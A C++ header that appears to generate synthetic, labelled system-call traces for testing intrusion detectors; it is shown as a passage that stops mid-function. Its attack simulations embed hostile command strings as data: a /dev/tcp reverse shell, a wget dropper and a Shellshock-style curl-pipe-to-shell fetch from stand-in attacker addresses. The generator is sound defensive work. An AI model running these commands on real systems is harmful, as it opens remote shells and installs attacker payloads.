// SPDX-License-Identifier: Apache-2.0

/*
Copyright (C) 2026 The provfsl Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.

*/

// Seeded synthetic system-call traces. Every scenario runs on the same kind
// of host (cron, backups, logging, package updates, admin logins, a
// monitoring agent) plus one exposed service, which is then exploited.

#pragma once

#include <cstdint>
#include <fstream>
#include <ostream>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "provfsl/error.hpp"
#include "provfsl/ingest.hpp"
#include "provfsl/rng.hpp"

namespace provfsl {

enum class attack_kind {
	shell_command,    // injected "sh -c <cmd>" spawned by the service
	reverse_shell,    // interactive shell wired to an attacker socket
	dropper,          // download, chmod and run a payload from /tmp
	path_traversal,   // the service itself opens files outside its root
	webshell,         // uploaded script later executed by the service
	container_escape, // privileged container breaking out through the runtime
	rogue_module,     // database loads an attacker module and rewrites cron
	sql_injection,    // database reads and writes files on the attacker's behalf
	metadata_ssrf,    // service fetches cloud credentials for the attacker
	miner,            // persistent cryptominer talking to a pool
};

inline std::string_view to_string(attack_kind k) {
	switch (k) {
	case attack_kind::shell_command: return "shell_command";
	case attack_kind::reverse_shell: return "reverse_shell";
	case attack_kind::dropper: return "dropper";
	case attack_kind::path_traversal: return "path_traversal";
	case attack_kind::webshell: return "webshell";
	case attack_kind::container_escape: return "container_escape";
	case attack_kind::rogue_module: return "rogue_module";
	case attack_kind::sql_injection: return "sql_injection";
	case attack_kind::metadata_ssrf: return "metadata_ssrf";
	case attack_kind::miner: return "miner";
	}
	return "?";
}

enum class service_kind { web, database };

struct scenario_template {
	std::string id;
	std::string name;
	std::string server_exe;
	std::vector<std::string> server_args;
	std::string listen;   // "addr:port"
	std::string docroot;  // served content, "/"-terminated
	std::string data_dir; // service state, "/"-terminated
	std::string log_file;
	std::vector<std::string> content;
	service_kind service = service_kind::web;
	std::vector<std::pair<attack_kind, double>> attacks; // relative weights
	double service_share = 0.2; // fraction of benign episodes served by the exposed service
};

inline std::vector<scenario_template> builtin_templates() {
	const std::vector<std::string> pages{"index.html", "login.html", "app.js", "style.css", "logo.png", "robots.txt"};
	using a = attack_kind;
	return {
		{"S01", "apache-cgi", "/usr/sbin/httpd", {"-DFOREGROUND"}, "0.0.0.0:80", "/var/www/html/", "/var/cache/httpd/",
		 "/var/log/httpd/access_log", pages, service_kind::web, {{a::shell_command, 2}, {a::path_traversal, 2}}},
		{"S02", "jetty", "/usr/bin/java", {"-Djetty.home=/opt/jetty", "-jar", "/opt/jetty/start.jar"}, "0.0.0.0:8080",
		 "/opt/jetty/webapps/root/", "/opt/jetty/work/", "/opt/jetty/logs/request.log", pages, service_kind::web,
		 {{a::shell_command, 2}, {a::reverse_shell, 2}}},
		{"S03", "php-fpm", "/usr/sbin/php-fpm", {"--nodaemonize"}, "127.0.0.1:9000", "/var/www/html/",
		 "/var/lib/php/sessions/", "/var/log/php-fpm/www-access.log", pages, service_kind::web,
		 {{a::webshell, 3}, {a::shell_command, 1}}},
		{"S04", "node-express", "/usr/bin/node", {"/srv/app/server.js"}, "0.0.0.0:3000", "/srv/app/public/",
		 "/srv/app/cache/", "/var/log/app/access.log", pages, service_kind::web, {{a::reverse_shell, 3}, {a::shell_command, 1}}},
		{"S05", "tomcat", "/usr/bin/java",
		 {"-classpath", "/opt/tomcat/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start"},
		 "0.0.0.0:8080", "/opt/tomcat/webapps/ROOT/", "/opt/tomcat/work/", "/opt/tomcat/logs/localhost_access_log.txt", pages,
		 service_kind::web, {{a::dropper, 3}, {a::shell_command, 1}}},
		{"S06", "jetty-deser", "/usr/bin/java", {"-Djetty.home=/opt/jetty", "-jar", "/opt/jetty/start.jar"},
		 "0.0.0.0:8080", "/opt/jetty/webapps/root/", "/opt/jetty/work/", "/opt/jetty/logs/request.log", pages, service_kind::web,
		 {{a::reverse_shell, 2}, {a::path_traversal, 1}, {a::shell_command, 1}}},
		{"S07", "nginx-ssrf", "/usr/sbin/nginx", {"-g", "daemon off;"}, "0.0.0.0:443", "/var/www/html/",
		 "/var/cache/nginx/", "/var/log/nginx/access.log", pages, service_kind::web,
		 {{a::metadata_ssrf, 1}, {a::path_traversal, 1}, {a::shell_command, 2}}},
		{"S08", "docker-escape", "/usr/bin/dockerd", {"-H", "fd://"}, "0.0.0.0:2375", "/etc/",
		 "/var/lib/docker/", "/var/log/syslog", {"hosts", "resolv.conf", "hostname"},
		 service_kind::web, {{a::container_escape, 1}, {a::shell_command, 2}, {a::reverse_shell, 1}}},
		{"S09", "redis-rogue", "/usr/bin/redis-server", {"/etc/redis/redis.conf"}, "0.0.0.0:6379", "/var/lib/redis/",
		 "/var/lib/redis/", "/var/log/redis/redis-server.log", {"dump.rdb", "appendonly.aof"}, service_kind::database,
		 {{a::rogue_module, 1}, {a::reverse_shell, 2}, {a::shell_command, 1}}},
		{"S10", "mysql-sqli", "/usr/sbin/mysqld", {"--user=mysql"}, "0.0.0.0:3306", "/var/lib/mysql/shop/",
		 "/var/lib/mysql/", "/var/log/mysql/error.log", {"users.ibd", "orders.ibd", "products.ibd", "sessions.ibd"},
		 service_kind::database, {{a::sql_injection, 1}}},
		{"S11", "apache-shellshock", "/usr/sbin/httpd", {"-DFOREGROUND"}, "0.0.0.0:80", "/var/www/html/",
		 "/var/cache/httpd/", "/var/log/httpd/access_log", pages, service_kind::web, {{a::miner, 1}, {a::dropper, 2}, {a::shell_command, 1}}},
	};
}

inline const scenario_template& find_template(const std::vector<scenario_template>& all, std::string_view key) {
	for (const auto& t : all) {
		if (t.id == key || t.name == key) {
			return t;
		}
	}
	throw error(error_kind::usage, "unknown scenario template: " + std::string(key));
}

namespace detail {

class trace_builder {
public:
	trace_builder(const scenario_template& t, rng& r) : m_t(t), m_rng(r) {
		m_server_pid = 1000 + static_cast<std::int64_t>(m_rng.below(20000));
		m_next_pid = m_server_pid + 1;
	}

	std::vector<raw_event> events;
	std::size_t relevant = 0;
	label current = label::benign;

	std::int64_t spawn_pid() { return m_next_pid += 1 + static_cast<std::int64_t>(m_rng.below(40)); }
	std::int64_t server_pid() const { return m_server_pid; }

	void emit(std::int64_t pid, const std::string& exe, const std::vector<std::string>& args, const std::string& syscall,
	          fd_type type = fd_type::none, std::string name = {}) {
		m_ts += 1 + static_cast<std::int64_t>(m_rng.below(5000));
		raw_event e;
		e.ts = m_ts;
		e.syscall = syscall;
		e.exe_path = exe;
		const auto slash = exe.rfind('/');
		e.proc_name = (slash == std::string::npos ? exe : exe.substr(slash + 1)).substr(0, 15);
		e.pid = pid;
		e.args = args;
		e.fd_type = type;
		e.fd_name = std::move(name);
		e.label = current;
		e.scenario_id = m_t.id;
		if (family_of(e.syscall)) {
			++relevant;
		}
		events.push_back(std::move(e));
	}

	void server(const std::string& syscall, fd_type type = fd_type::none, std::string name = {}) {
		emit(m_server_pid, m_t.server_exe, m_t.server_args, syscall, type, std::move(name));
	}

	void file(std::int64_t pid, const std::string& exe, const std::vector<std::string>& args,
	          const std::string& syscall, std::string path) {
		emit(pid, exe, args, syscall, fd_type::file, std::move(path));
	}

private:
	const scenario_template& m_t;
	rng& m_rng;
	std::int64_t m_ts = 1'700'000'000'000;
	std::int64_t m_server_pid = 1000;
	std::int64_t m_next_pid = 1001;
};

inline std::string hex_name(rng& r, std::size_t len) {
	static constexpr char digits[] = "0123456789abcdef";
	std::string s;
	for (std::size_t i = 0; i < len; ++i) s += digits[r.below(16)];
	return s;
}

inline std::string uuid_name(rng& r) {
	return hex_name(r, 8) + "-" + hex_name(r, 4) + "-" + hex_name(r, 4) + "-" + hex_name(r, 4) + "-" + hex_name(r, 12);
}

inline std::string pipe_name(rng& r) { return "pipe:[" + std::to_string(100000 + r.below(900000)) + "]"; }

inline std::string temp_name(rng& r) {
	static const std::vector<std::string> stems{"/tmp/php", "/tmp/upload-", "/var/tmp/sess_", "/tmp/.tmp"};
	return r.pick(stems) + hex_name(r, 6 + r.below(6));
}

inline const std::vector<std::string>& attacker_hosts() {
	static const std::vector<std::string> h{"203.0.113.7", "198.51.100.23", "192.0.2.66", "203.0.113.50"};
	return h;
}

inline std::string attacker_endpoint(rng& r) {
	static const std::vector<std::string> ports{"4444", "1337", "9001"};
	return r.pick(attacker_hosts()) + ":" + r.pick(ports);
}

// ---- host background, identical on every scenario ----

inline void host_cron(trace_builder& b, rng& r) {
	const std::string cron = "/usr/sbin/cron";
	const auto cron_pid = b.spawn_pid();
	b.emit(cron_pid, cron, {"-f"}, "clone");
	const auto pid = b.spawn_pid();
	switch (r.below(4)) {
	case 0: {
		static const std::vector<std::string> logs{"/var/log/syslog", "/var/log/auth.log", "/var/log/kern.log"};
		const std::string exe = "/usr/sbin/logrotate";
		const std::vector<std::string> args{"/etc/logrotate.conf"};
		const auto log = r.pick(logs);
		b.file(cron_pid, cron, {"-f"}, "execve", exe);
		b.file(pid, exe, args, "openat", "/etc/logrotate.conf");
		b.file(pid, exe, args, "openat", "/var/lib/logrotate/status");
		b.file(pid, exe, args, "rename", log);
		b.file(pid, exe, args, "write", log + ".1");
		b.emit(pid, exe, args, "kill");
		break;
	}
	case 1: {
		const std::string exe = "/usr/bin/find";
		const std::vector<std::string> args{"/var/tmp", "-mtime", "+7", "-delete"};
		b.file(cron_pid, cron, {"-f"}, "execve", exe);
		b.file(pid, exe, args, "openat", "/var/tmp/");
		b.file(pid, exe, args, "unlinkat", temp_name(r));
		break;
	}
	case 2: {
		const std::string exe = "/usr/bin/certbot";
		const std::vector<std::string> args{"renew", "--quiet"};
		b.file(cron_pid, cron, {"-f"}, "execve", exe);
		b.emit(pid, exe, args, "connect", fd_type::ipv4, "172.65.32.248:443");
		b.file(pid, exe, args, "openat", "/etc/letsencrypt/renewal/site.conf");
		b.file(pid, exe, args, "read", "/etc/letsencrypt/renewal/site.conf");
		break;
	}
	default: {
		const std::string exe = "/usr/sbin/ntpdate";
		b.file(cron_pid, cron, {"-f"}, "execve", exe);
		b.emit(pid, exe, {"pool.ntp.org"}, "connect", fd_type::ipv4, "162.159.200.1:123");
		b.file(pid, exe, {"pool.ntp.org"}, "openat", "/etc/adjtime");
		break;
	}
	}
}

inline void host_backup(trace_builder& b, rng& r) {
	const auto pid = b.spawn_pid();
	if (r.chance(0.5)) {
		static const std::vector<std::string> files{"/etc/group", "/etc/hosts", "/etc/fstab",
		                                            "/etc/crontab", "/etc/nginx/nginx.conf", "/etc/resolv.conf", "/etc/hostname"};
		const std::string exe = "/usr/bin/tar";
		const std::vector<std::string> args{"-czf", "/var/backups/etc.tar.gz", "/etc"};
		const auto f = r.pick(files);
		b.file(pid, exe, args, "openat", f);
		b.file(pid, exe, args, "read", f);
		b.file(pid, exe, args, "write", "/var/backups/etc.tar.gz");
	} else {
		const std::string exe = "/usr/bin/rsync";
		const std::vector<std::string> args{"-a", "/var/backups/", "backup@10.0.0.9:/srv/"};
		b.emit(pid, exe, args, "connect", fd_type::ipv4, "10.0.0.9:22");
		b.file(pid, exe, args, "openat", "/var/backups/etc.tar.gz");
		b.file(pid, exe, args, "read", "/var/backups/etc.tar.gz");
		b.emit(pid, exe, args, "write", fd_type::ipv4, "10.0.0.9:22");
	}
}

inline void host_logging(trace_builder& b, rng& r) {
	const auto pid = b.spawn_pid();
	if (r.chance(0.5)) {
		const std::string exe = "/usr/lib/systemd/systemd-journald";
		b.file(pid, exe, {}, "write", "/var/log/journal/system.journal");
		b.file(pid, exe, {}, "openat", "/run/log/journal/" + hex_name(r, 32) + "/system.journal");
		b.emit(pid, exe, {}, "read", fd_type::pipe, pipe_name(r));
	} else {
		const std::string exe = "/usr/sbin/rsyslogd";
		b.file(pid, exe, {"-n"}, "openat", "/var/log/syslog");
		b.file(pid, exe, {"-n"}, "write", "/var/log/syslog");
		b.file(pid, exe, {"-n"}, "openat", "/dev/log");
	}
}

inline void host_packages(trace_builder& b, rng& r) {
	static const std::vector<std::string> packages{"openssl", "libc6", "tzdata", "curl", "ca-certificates", "zlib1g"};
	const auto pkg = r.pick(packages);
	const auto apt = b.spawn_pid();
	const std::string apt_exe = "/usr/bin/apt-get";
	const std::vector<std::string> apt_args{"-y", "upgrade"};
	b.emit(apt, apt_exe, apt_args, "connect", fd_type::ipv4, "91.189.91.39:80");
	const auto deb = "/var/cache/apt/archives/partial/" + pkg + "_" + std::to_string(1 + r.below(3)) + "." +
	                 std::to_string(r.below(20)) + "-" + hex_name(r, 6) + "_amd64.deb";
	b.file(apt, apt_exe, apt_args, "openat", deb);
	b.file(apt, apt_exe, apt_args, "write", deb);
	b.file(apt, apt_exe, apt_args, "execve", "/usr/bin/dpkg");
	const auto dpkg = b.spawn_pid();
	const std::vector<std::string> dpkg_args{"--configure", pkg};
	b.file(dpkg, "/usr/bin/dpkg", dpkg_args, "openat", "/var/lib/dpkg/status");
	b.file(dpkg, "/usr/bin/dpkg", dpkg_args, "write", "/var/lib/dpkg/status-new");
	b.file(dpkg, "/usr/bin/dpkg", dpkg_args, "rename", "/var/lib/dpkg/status-new");
	if (r.chance(0.3)) {
		// Maintainer scripts run under a shell.
		const std::vector<std::string> sh_args{"-e", "/var/lib/dpkg/info/postinst", "configure"};
		b.file(dpkg, "/usr/bin/dpkg", dpkg_args, "execve", "/bin/sh");
		const auto sh = b.spawn_pid();
		b.file(sh, "/bin/sh", sh_args, "execve", "/sbin/ldconfig");
		b.file(sh, "/bin/sh", sh_args, "openat", "/etc/ld.so.conf");
	}
	b.emit(apt, apt_exe, apt_args, "getpid");
}

inline void host_admin_login(trace_builder& b, rng& r) {
	const std::string sshd = "/usr/sbin/sshd";
	const auto pid = b.spawn_pid();
	b.emit(pid, sshd, {"-D"}, "accept", fd_type::ipv4, "0.0.0.0:22");
	b.file(pid, sshd, {"-D"}, "openat", "/etc/ssh/sshd_config");
	b.file(pid, sshd, {"-D"}, "write", "/var/log/auth.log");
	b.emit(pid, sshd, {"-D"}, "clone");
	b.file(pid, sshd, {"-D"}, "execve", "/bin/bash");
	const auto bash = b.spawn_pid();
	for (std::size_t i = 0, n = 1 + r.below(3); i < n; ++i) {
		b.emit(bash, "/bin/bash", {}, "clone");
		const auto child = b.spawn_pid();
		switch (r.below(4)) {
		case 0:
			b.file(bash, "/bin/bash", {}, "execve", "/bin/ls");
			b.file(child, "/bin/ls", {}, "openat", "/home/admin/");
			break;
		case 1:
			b.file(bash, "/bin/bash", {}, "execve", "/usr/bin/tail");
			b.file(child, "/usr/bin/tail", {"-f", "/var/log/syslog"}, "openat", "/var/log/syslog");
			b.file(child, "/usr/bin/tail", {"-f", "/var/log/syslog"}, "read", "/var/log/syslog");
			break;
		case 2:
			b.file(bash, "/bin/bash", {}, "execve", "/bin/ps");
			b.file(child, "/bin/ps", {"aux"}, "openat", "/proc/" + std::to_string(b.server_pid()) + "/stat");
			break;
		default:
			b.file(bash, "/bin/bash", {}, "execve", "/usr/bin/systemctl");
			b.file(child, "/usr/bin/systemctl", {"status"}, "openat", "/run/systemd/private");
			break;
		}
	}
	b.file(bash, "/bin/bash", {}, "write", "/home/admin/.bash_history");
}

inline void host_monitoring(trace_builder& b, rng& r) {
	const std::string exe = "/usr/bin/node_exporter";
	const auto pid = b.spawn_pid();
	static const std::vector<std::string> probes{"/proc/stat", "/proc/meminfo", "/proc/loadavg",
	                                             "/sys/class/net/eth0/statistics/rx_bytes"};
	b.emit(pid, exe, {}, "accept", fd_type::ipv4, "0.0.0.0:9100");
	const auto probe = r.pick(probes);
	b.file(pid, exe, {}, "openat", probe);
	b.file(pid, exe, {}, "read", probe);
	b.emit(pid, exe, {}, "write", fd_type::ipv4, "10.0.0.3:9100");
}

// ---- exposed service ----

template <typename Emit>
void service_web(Emit&& svc, const scenario_template& t, rng& r) {
	svc("accept", fd_type::ipv4, t.listen);
	const auto page = t.docroot + r.pick(t.content);
	svc("openat", fd_type::file, page);
	svc("read", fd_type::file, page);
	if (r.chance(0.3)) svc("mmap");
	svc("write", fd_type::file, t.log_file);
	if (r.chance(0.3)) svc("write", fd_type::pipe, pipe_name(r));
	if (r.chance(0.25)) {
		const auto tmp = temp_name(r);
		svc("openat", fd_type::file, tmp);
		svc("write", fd_type::file, tmp);
		svc("unlink", fd_type::file, tmp);
	}
	if (r.chance(0.25)) {
		const auto cached = t.data_dir + (r.chance(0.5) ? hex_name(r, 32) : uuid_name(r));
		svc("openat", fd_type::file, cached);
		svc("read", fd_type::file, cached);
	}
	if (r.chance(0.2)) svc("connect", fd_type::ipv4, "10.0.0.20:5432");
	if (r.chance(0.1)) svc("clone");
}

template <typename Emit>
void service_database(Emit&& svc, const scenario_template& t, rng& r) {
	svc("accept", fd_type::ipv4, t.listen);
	const auto table = t.docroot + r.pick(t.content);
	svc("openat", fd_type::file, table);
	svc(r.chance(0.7) ? "pread64" : "pwrite64", fd_type::file, table);
	if (r.chance(0.4)) svc("write", fd_type::file, t.data_dir + "ib_logfile0");
	if (r.chance(0.2)) {
		const auto tmp = "/tmp/#sql" + hex_name(r, 8);
		svc("openat", fd_type::file, tmp);
		svc("write", fd_type::file, tmp);
		svc("unlink", fd_type::file, tmp);
	}
	if (r.chance(0.2)) svc("write", fd_type::file, t.log_file);
	if (r.chance(0.1)) svc("clone");
}

/// Runs one episode of `t` as process `pid`.
inline void service_episode(trace_builder& b, const scenario_template& t, std::int64_t pid, rng& r) {
	auto svc = [&](const std::string& syscall, fd_type type = fd_type::none, std::string name = {}) {
		b.emit(pid, t.server_exe, t.server_args, syscall, type, std::move(name));
	};
	if (t.service == service_kind::database) {
		service_database(svc, t, r);
	} else {
		service_web(svc, t, r);
	}
}

/// Services every host runs besides the exposed one: a front proxy and the
/// application database.
inline const scenario_template& front_proxy() {
	static const scenario_template t{"", "front-proxy", "/usr/sbin/nginx", {"-g", "daemon off;"}, "0.0.0.0:443",
	                                 "/var/www/html/", "/var/cache/nginx/", "/var/log/nginx/access.log",
	                                 {"index.html", "login.html", "app.js", "style.css", "logo.png", "robots.txt"},
	                                 service_kind::web, {}, 0.0};
	return t;
}

inline const scenario_template& app_database() {
	static const scenario_template t{"", "app-database", "/usr/sbin/mysqld", {"--user=mysql"}, "0.0.0.0:3306",
	                                 "/var/lib/mysql/shop/", "/var/lib/mysql/", "/var/log/mysql/error.log",
	                                 {"users.ibd", "orders.ibd", "products.ibd", "sessions.ibd"},
	                                 service_kind::database, {}, 0.0};
	return t;
}

// ---- attacks ----

/// The service spawns "sh -c <line>"; returns the shell's pid.
inline std::int64_t spawn_shell(trace_builder& b, const std::string& line, std::vector<std::string>& sh_args) {
	b.server("execve", fd_type::file, "/bin/sh");
	sh_args = {"-c", line};
	return b.spawn_pid();
}

inline void attack_shell_command(trace_builder& b, const scenario_template& t, rng& r) {
	static const std::vector<std::vector<std::string>> commands{
		{"/usr/bin/id"},      {"/usr/bin/whoami"}, {"/bin/ls", "-la"}, {"/bin/cat", "/etc/passwd"},
		{"/bin/uname", "-a"}, {"/bin/ps", "aux"},  {"/usr/bin/env"},   {"/bin/cat", "/etc/shadow"},
		{"/bin/hostname"},    {"/bin/netstat", "-antp"}, {"/sbin/ip", "addr"}, {"/usr/bin/crontab", "-l"},
		{"/usr/bin/find", "/", "-perm", "-4000"}, {"/usr/bin/w"},
	};
	const auto& cmd = r.pick(commands);
	const auto name = cmd[0].substr(cmd[0].rfind('/') + 1);
	std::string line = name;
	for (std::size_t i = 1; i < cmd.size(); ++i) line += " " + cmd[i];

	if (r.chance(0.3)) b.server("clone");
	std::vector<std::string> sh_args;
	const auto sh = spawn_shell(b, line, sh_args);
	b.file(sh, "/bin/sh", sh_args, "execve", cmd[0]);
	const auto child = b.spawn_pid();
	const std::vector<std::string> child_args(cmd.begin() + 1, cmd.end());
	if (name == "id" || name == "whoami") {
		b.file(child, cmd[0], child_args, "openat", "/etc/passwd");
		b.file(child, cmd[0], child_args, "read", "/etc/passwd");
		if (name == "id") b.file(child, cmd[0], child_args, "openat", "/etc/group");
	} else if (name == "cat") {
		b.file(child, cmd[0], child_args, "openat", cmd[1]);
		b.file(child, cmd[0], child_args, "read", cmd[1]);
	} else if (name == "ls") {
		b.file(child, cmd[0], child_args, "openat", t.docroot);
	} else if (name == "ps") {
		b.file(child, cmd[0], child_args, "openat", "/proc/" + std::to_string(b.server_pid()) + "/stat");
	} else if (name == "uname") {
		b.file(child, cmd[0], child_args, "openat", "/proc/sys/kernel/osrelease");
	} else if (name == "hostname") {
		b.file(child, cmd[0], child_args, "openat", "/etc/hostname");
	} else if (name == "netstat") {
		b.file(child, cmd[0], child_args, "openat", "/proc/net/tcp");
		b.file(child, cmd[0], child_args, "read", "/proc/net/tcp");
	} else if (name == "ip") {
		b.file(child, cmd[0], child_args, "openat", "/sys/class/net/");
	} else if (name == "crontab") {
		b.file(child, cmd[0], child_args, "openat", "/var/spool/cron/crontabs/");
	} else if (name == "find") {
		b.file(child, cmd[0], child_args, "openat", "/usr/bin/");
		b.file(child, cmd[0], child_args, "openat", "/usr/sbin/");
	} else if (name == "w") {
		b.file(child, cmd[0], child_args, "openat", "/var/run/utmp");
		b.file(child, cmd[0], child_args, "read", "/var/run/utmp");
	} else {
		b.file(child, cmd[0], child_args, "openat", "/proc/self/environ");
	}
	b.emit(child, cmd[0], child_args, "write", fd_type::pipe, pipe_name(r));
	b.emit(sh, "/bin/sh", sh_args, "read", fd_type::pipe, pipe_name(r));
}

inline void attack_reverse_shell(trace_builder& b, const scenario_template&, rng& r) {
	const auto endpoint = attacker_endpoint(r);
	std::vector<std::string> sh_args;
	const auto sh = spawn_shell(b, "bash -i >& /dev/tcp/" + endpoint + " 0>&1", sh_args);
	b.file(sh, "/bin/sh", sh_args, "execve", "/bin/bash");
	const auto bash = b.spawn_pid();
	const std::vector<std::string> bash_args{"-i"};
	b.emit(bash, "/bin/bash", bash_args, "connect", fd_type::ipv4, endpoint);
	b.emit(bash, "/bin/bash", bash_args, "dup2", fd_type::ipv4, endpoint);
	b.emit(bash, "/bin/bash", bash_args, "read", fd_type::ipv4, endpoint);
	if (r.chance(0.5)) b.file(bash, "/bin/bash", bash_args, "openat", "/root/.bash_history");
	b.emit(bash, "/bin/bash", bash_args, "write", fd_type::ipv4, endpoint);
}

inline void attack_dropper(trace_builder& b, const scenario_template&, rng& r) {
	const auto host = r.pick(attacker_hosts());
	const auto payload = "/tmp/." + hex_name(r, 8);
	std::vector<std::string> sh_args;
	const auto sh = spawn_shell(b, "wget -q http://" + host + "/x -O " + payload + "; chmod +x " + payload, sh_args);
	b.file(sh, "/bin/sh", sh_args, "execve", "/usr/bin/wget");
	const auto wget = b.spawn_pid();
	const std::vector<std::string> wget_args{"-q", "http://" + host + "/x", "-O", payload};
	b.emit(wget, "/usr/bin/wget", wget_args, "connect", fd_type::ipv4, host + ":80");
	b.file(wget, "/usr/bin/wget", wget_args, "openat", payload);
	b.file(wget, "/usr/bin/wget", wget_args, "write", payload);
	b.file(sh, "/bin/sh", sh_args, "execve", "/bin/chmod");
	b.file(b.spawn_pid(), "/bin/chmod", {"+x", payload}, "fchmodat", payload);
	b.file(sh, "/bin/sh", sh_args, "execve", payload);
	const auto implant = b.spawn_pid();
	b.emit(implant, payload, {}, "connect", fd_type::ipv4, attacker_endpoint(r));
	if (r.chance(0.5)) {
		b.file(implant, payload, {}, "openat", "/etc/crontab");
		b.file(implant, payload, {}, "write", "/etc/crontab");
	} else {
		b.file(implant, payload, {}, "openat", "/root/.ssh/authorized_keys");
		b.file(implant, payload, {}, "write", "/root/.ssh/authorized_keys");
	}
}

inline void attack_path_traversal(trace_builder& b, const scenario_template& t, rng& r) {
	static const std::vector<std::string> targets{"/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa",
	                                              "/proc/self/environ", "/root/.aws/credentials"};
	b.server("accept", fd_type::ipv4, t.listen);
	const auto target = r.pick(targets);
	b.server("openat", fd_type::file, target);
	b.server("read", fd_type::file, target);
	b.server("write", fd_type::file, t.log_file);
}

inline void attack_webshell(trace_builder& b, const scenario_template& t, rng& r) {
	static const std::vector<std::string> shells{"shell.php", "cmd.php", "up.php"};
	const auto path = t.docroot + "uploads/" + r.pick(shells);
	b.server("accept", fd_type::ipv4, t.listen);
	b.server("openat", fd_type::file, path);
	b.server("write", fd_type::file, path);
	b.server("fchmod", fd_type::file, path);
	if (r.chance(0.6)) {
		attack_shell_command(b, t, r);
	} else {
		b.server("openat", fd_type::file, "/etc/passwd");
		b.server("read", fd_type::file, "/etc/passwd");
	}
}

inline void attack_container_escape(trace_builder& b, const scenario_template&, rng& r) {
	// A privileged container mounts the host disk and plants a cron job.
	b.server("accept", fd_type::ipv4, "0.0.0.0:2375");
	b.server("openat", fd_type::file, "/var/run/docker.sock");
	b.server("execve", fd_type::file, "/usr/bin/runc");
	const auto runc = b.spawn_pid();
	const std::vector<std::string> runc_args{"--root", "/run/docker/runtime-runc/moby", "create", "--privileged"};
	b.emit(runc, "/usr/bin/runc", runc_args, "clone");
	b.file(runc, "/usr/bin/runc", runc_args, "execve", "/usr/bin/nsenter");
	const auto ns = b.spawn_pid();
	const std::vector<std::string> ns_args{"--target", "1", "--mount", "--", "sh"};
	b.file(ns, "/usr/bin/nsenter", ns_args, "openat", "/proc/1/ns/mnt");
	b.file(ns, "/usr/bin/nsenter", ns_args, "execve", "/bin/sh");
	const auto sh = b.spawn_pid();
	const std::vector<std::string> sh_args{"-c", "mount /dev/sda1 /mnt"};
	b.file(sh, "/bin/sh", sh_args, "execve", "/bin/mount");
	b.file(b.spawn_pid(), "/bin/mount", {"/dev/sda1", "/mnt"}, "openat", "/dev/sda1");
	if (r.chance(0.5)) {
		b.file(sh, "/bin/sh", sh_args, "openat", "/mnt/etc/cron.d/backdoor");
		b.file(sh, "/bin/sh", sh_args, "write", "/mnt/etc/cron.d/backdoor");
	} else {
		b.file(sh, "/bin/sh", sh_args, "openat", "/mnt/root/.ssh/authorized_keys");
		b.file(sh, "/bin/sh", sh_args, "write", "/mnt/root/.ssh/authorized_keys");
	}
}

inline void attack_rogue_module(trace_builder& b, const scenario_template& t, rng& r) {
	b.server("accept", fd_type::ipv4, t.listen);
	if (r.chance(0.5)) {
		// Replication from a rogue master delivers a module, which is loaded.
		const auto module = "/tmp/exp" + hex_name(r, 4) + ".so";
		b.server("connect", fd_type::ipv4, r.pick(attacker_hosts()) + ":6379");
		b.server("openat", fd_type::file, module);
		b.server("write", fd_type::file, module);
		b.server("mmap", fd_type::file, module);
		b.server("execve", fd_type::file, "/bin/sh");
	} else {
		// CONFIG SET dir/dbfilename turns the dump into a crontab.
		b.server("openat", fd_type::file, "/var/spool/cron/crontabs/root");
		b.server("write", fd_type::file, "/var/spool/cron/crontabs/root");
		b.server("rename", fd_type::file, "/var/spool/cron/crontabs/root");
	}
}

inline void attack_sql_injection(trace_builder& b, const scenario_template& t, rng& r) {
	b.server("accept", fd_type::ipv4, t.listen);
	static const std::vector<int> weighted{0, 0, 1, 1, 2, 3, 4, 4, 5};
	switch (r.pick(weighted)) {
	case 0: // LOAD_FILE
		b.server("openat", fd_type::file, "/etc/passwd");
		b.server("read", fd_type::file, "/etc/passwd");
		break;
	case 1: { // INTO OUTFILE web shell
		static const std::vector<std::string> shells{"shell.php", "cmd.php", "up.php"};
		const auto path = "/var/www/html/uploads/" + r.pick(shells);
		b.server("openat", fd_type::file, path);
		b.server("write", fd_type::file, path);
		break;
	}
	case 2: // credential dump
		b.server("openat", fd_type::file, t.data_dir + "mysql/user.ibd");
		b.server("pread64", fd_type::file, t.data_dir + "mysql/user.ibd");
		break;
	case 3: { // bulk read of application tables through a temporary table
		const auto table = t.docroot + r.pick(t.content);
		b.server("openat", fd_type::file, table);
		b.server("pread64", fd_type::file, table);
		const auto tmp = "/tmp/#sql" + hex_name(r, 8);
		b.server("openat", fd_type::file, tmp);
		b.server("write", fd_type::file, tmp);
		break;
	}
	case 4: { // user-defined function plugin, then command execution
		const std::string plugin = "/usr/lib/mysql/plugin/lib_mysqludf_sys.so";
		b.server("openat", fd_type::file, plugin);
		b.server("write", fd_type::file, plugin);
		for (auto n = 2 + r.below(3); n > 0; --n) attack_shell_command(b, t, r);
		break;
	}
	default: { // out-of-band exfiltration through an attacker name server
		const auto ns = attacker_hosts().front() + ":53";
		b.server("connect", fd_type::ipv4, ns);
		b.server("write", fd_type::ipv4, ns);
		break;
	}
	}
}

inline void attack_metadata_ssrf(trace_builder& b, const scenario_template& t, rng& r) {
	b.server("accept", fd_type::ipv4, t.listen);
	b.server("connect", fd_type::ipv4, "169.254.169.254:80");
	b.server("read", fd_type::ipv4, "169.254.169.254:80");
	if (r.chance(0.5)) {
		b.server("connect", fd_type::ipv4, r.pick(attacker_hosts()) + ":443");
		b.server("write", fd_type::ipv4, r.pick(attacker_hosts()) + ":443");
	} else {
		b.server("write", fd_type::file, t.log_file);
	}
}

inline void attack_miner(trace_builder& b, const scenario_template& t, rng& r) {
	const std::string miner = "/var/tmp/.X11/xmrig";
	if (r.chance(0.4)) {
		std::vector<std::string> sh_args;
		const auto sh = spawn_shell(b, "() { :; }; /bin/bash -c 'curl -s http://" + r.pick(attacker_hosts()) + "/m | sh'",
		                            sh_args);
		b.file(sh, "/bin/sh", sh_args, "execve", "/usr/bin/curl");
		const auto curl = b.spawn_pid();
		b.emit(curl, "/usr/bin/curl", {"-s"}, "connect", fd_type::ipv4, r.pick(attacker_hosts()) + ":80");
		b.file(curl, "/usr/bin/curl", {"-s"}, "write", miner);
